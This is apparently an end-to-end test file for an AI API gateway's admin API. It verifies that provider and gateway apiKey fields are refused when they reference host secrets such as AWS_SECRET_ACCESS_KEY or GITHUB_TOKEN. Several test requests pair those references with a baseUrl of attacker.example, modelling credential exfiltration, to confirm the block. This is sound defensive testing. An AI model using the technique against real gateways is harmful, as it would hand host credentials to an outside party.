import type { GatewaySpec, ProviderSpec } from '@aigw/core';
import { CatalogService } from '@aigw/platform';
import { CatalogChanges } from '../../../apps/api-gateway/src/admin/catalog-changes';
import type { ProviderView } from '../../../apps/api-gateway/src/admin/catalog-docs';
import { GatewayHarness } from '../support';
import { call, errorOf, exportedConfig } from './admin-support';

const P = '/api/v1/ai/admin/providers';
const G = '/api/v1/ai/admin/gateways';
const IMPORT = '/api/v1/ai/admin/config/import';

const model = { name: 'kv-gpt', promptPer1k: 0.001, completionPer1k: 0.002, contextWindow: 8192 };

/**
 * Variables of the gateway's process an admin must not be able to read. The admin API reads `${VAR}` in an apiKey
 * from this process's environment, and an apiKey is sent as the bearer token to the provider's baseUrl, which the
 * admin chooses: a `${AWS_SECRET_ACCESS_KEY}` would hand the host's credentials to any URL.
 */
const HOST_SECRETS: Record<string, string> = {
  AWS_SECRET_ACCESS_KEY: 'aws-secret-e2e-value',
  GITHUB_TOKEN: 'ghp-e2e-value',
};
/** A provider key variable the default ADMIN_KEY_VARIABLES (`*_API_KEY,HF_TOKEN`) lists. */
const PROVIDER_KEY = { AIGW_KV_E2E_API_KEY: 'sk-kv-e2e-provider' };
const VARIABLES = { ...HOST_SECRETS, ...PROVIDER_KEY };

/**
 * ADMIN_KEY_VARIABLES: an apiKey of the admin API, an import or a connection test names only the variables the
 * operator lists (a 400 naming `apiKey` otherwise, the value never read); a reference already stored for the same
 * entry keeps working. Real PostgreSQL and Redis, over HTTP.
 */
describe('admin API: the environment variables an apiKey may name (ADMIN_KEY_VARIABLES)', () => {
  const h = new GatewayHarness({ CATALOG_RELOAD_S: '3600' });
  const saved: Record<string, string | undefined> = {};
  const catalog = (): CatalogService => h.app.get(CatalogService);

  /** A provider stored with a key read from AWS_SECRET_ACCESS_KEY: by an earlier release, past today's check. */
  const stored: ProviderSpec = {
    id: 'kv-stored',
    kind: 'openai',
    baseUrl: 'http://127.0.0.1:9/v1',
    apiKeyRef: '${AWS_SECRET_ACCESS_KEY}',
    enabled: true,
    timeoutMs: 30_000,
    maxConnections: 16,
    routing: 'direct',
    models: [{ ...model, capabilities: ['chat'], enabled: true }],
  };
  const storedGateway: GatewaySpec = {
    id: 'kv-stored-gw',
    baseUrl: 'http://127.0.0.1:9',
    apiKeyRef: '${GITHUB_TOKEN}',
    timeoutMs: 30_000,
  };

  beforeAll(async () => {
    for (const [name, value] of Object.entries(VARIABLES)) {
      saved[name] = process.env[name];
      process.env[name] = value;
    }
    await h.start();
    await h.app.get(CatalogChanges).read(async (tx) => {
      await tx.putProvider(stored, { set: HOST_SECRETS.AWS_SECRET_ACCESS_KEY });
      await tx.putGateway(storedGateway, { set: HOST_SECRETS.GITHUB_TOKEN });
    });
    await catalog().reload();
  }, 60_000);

  afterAll(async () => {
    await h.stop();
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) {
        delete process.env[name];
      } else {
        process.env[name] = value;
      }
    }
  }, 30_000);

  /** A 400 naming `apiKey` (or `param`), the variable and ADMIN_KEY_VARIABLES, and holding no host secret. */
  function expectRefused(res: { status: number; body: unknown }, name: string, param = 'apiKey'): void {
    expect(res.status).toBe(400);
    const error = errorOf(res);
    expect(error).toMatchObject({ type: 'invalid_request_error', code: 'invalid_request', param });
    expect(error.message).toMatch(
      new RegExp(
        `apiKey must not reference environment variable ${name}: .*ADMIN_KEY_VARIABLES lists \\(\\*_API_KEY,HF_TOKEN\\)`,
      ),
    );
    for (const value of Object.values(HOST_SECRETS)) {
      expect(JSON.stringify(res.body)).not.toContain(value);
    }
  }

  it.each(['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'HOME'])(
    'POST a provider with apiKey ${%s}: 400 naming apiKey and the variable, nothing saved',
    async (name) => {
      const res = await call(h, 'POST', P, {
        id: `kv-${name.toLowerCase().replace(/_/g, '-')}`,
        kind: 'openai',
        baseUrl: 'http://attacker.example/v1',
        apiKey: `\${${name}}`,
        models: [model],
      });
      expectRefused(res, name);
      expect(catalog().provider(`kv-${name.toLowerCase().replace(/_/g, '-')}`)).toBeUndefined();
    },
  );

  it('PATCH the seeded provider to send ${AWS_SECRET_ACCESS_KEY} to an attacker: 400, nothing changed', async () => {
    const before = catalog().provider('sim');
    const res = await call(h, 'PATCH', `${P}/sim`, {
      apiKey: '${AWS_SECRET_ACCESS_KEY}',
      baseUrl: 'http://attacker.example',
    });
    expectRefused(res, 'AWS_SECRET_ACCESS_KEY');
    expect(catalog().provider('sim')).toEqual(before);
  });

  it('a gateway with apiKey ${GITHUB_TOKEN}: 400 naming apiKey', async () => {
    const res = await call(h, 'POST', G, {
      id: 'kv-gw',
      baseUrl: 'http://attacker.example',
      apiKey: '${GITHUB_TOKEN}',
    });
    expectRefused(res, 'GITHUB_TOKEN');
  });

  it('a connection test of unsaved settings with apiKey ${AWS_SECRET_ACCESS_KEY}: 400 naming apiKey, nothing sent', async () => {
    const res = await call(h, 'POST', `${P}/test`, {
      kind: 'openai',
      baseUrl: 'http://attacker.example/v1',
      apiKey: '${AWS_SECRET_ACCESS_KEY}',
    });
    expectRefused(res, 'AWS_SECRET_ACCESS_KEY');
  });

  it('an import giving an entry apiKey ${AWS_SECRET_ACCESS_KEY}: 400 naming it, nothing applied', async () => {
    const doc = await exportedConfig(h);
    const index = doc.providers.findIndex((p) => p.id === 'sim');
    doc.providers[index] = { ...doc.providers[index], apiKey: '${AWS_SECRET_ACCESS_KEY}' };
    const res = await call(h, 'POST', IMPORT, doc);
    expectRefused(res, 'AWS_SECRET_ACCESS_KEY', `providers[${index}].apiKey`);
    expect(catalog().provider('sim')?.apiKeyRef).not.toBe('${AWS_SECRET_ACCESS_KEY}');
  });

  it('a provider with apiKey ${AIGW_KV_E2E_API_KEY} (*_API_KEY): 201, the key read and remembered', async () => {
    const res = await call<ProviderView>(h, 'POST', P, {
      id: 'kv-listed',
      kind: 'openai',
      baseUrl: `${h.sim.url}/v1`,
      apiKey: '${AIGW_KV_E2E_API_KEY}',
      models: [model],
    });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ hasApiKey: true, apiKeyRef: '${AIGW_KV_E2E_API_KEY}' });
    expect(catalog().provider('kv-listed')?.apiKey).toBe(PROVIDER_KEY.AIGW_KV_E2E_API_KEY);
  });

  describe('a provider and a gateway stored naming a variable outside the list (an earlier release)', () => {
    it('toggle, and PATCH of another field: 200, the key and its reference kept', async () => {
      const toggled = await call<ProviderView>(h, 'POST', `${P}/kv-stored/toggle`, { enabled: false });
      expect([toggled.status, toggled.body.enabled]).toEqual([200, false]);
      const patched = await call(h, 'PATCH', `${P}/kv-stored`, { timeoutMs: 45_000, enabled: true });
      expect(patched.status).toBe(200);
      expect(catalog().provider('kv-stored')).toMatchObject({
        timeoutMs: 45_000,
        apiKeyRef: '${AWS_SECRET_ACCESS_KEY}',
        apiKey: HOST_SECRETS.AWS_SECRET_ACCESS_KEY,
      });
    });

    it('PATCH sending its stored reference again: 200; moving it to another id: 400', async () => {
      const same = await call(h, 'PATCH', `${P}/kv-stored`, { apiKey: '${AWS_SECRET_ACCESS_KEY}', timeoutMs: 46_000 });
      expect(same.status).toBe(200);
      expect(catalog().provider('kv-stored')?.timeoutMs).toBe(46_000);
      const other = await call(h, 'PATCH', `${P}/kv-listed`, { apiKey: '${AWS_SECRET_ACCESS_KEY}' });
      expectRefused(other, 'AWS_SECRET_ACCESS_KEY');
    });

    it('the gateway: PATCH of its timeout 200', async () => {
      const res = await call(h, 'PATCH', `${G}/kv-stored-gw`, { timeoutMs: 20_000 });
      expect(res.status).toBe(200);
    });

    it('export, then import of it unchanged: 200, applied, nothing changed', async () => {
      const doc = await exportedConfig(h);
      expect(doc.providers.find((p) => p.id === 'kv-stored')?.apiKey).toBe('${AWS_SECRET_ACCESS_KEY}');
      const res = await call<{ applied: boolean }>(h, 'POST', IMPORT, doc);
      expect(res.status).toBe(200);
      expect(res.body.applied).toBe(true);
      expect(await exportedConfig(h)).toEqual(doc);
    });
  });
});
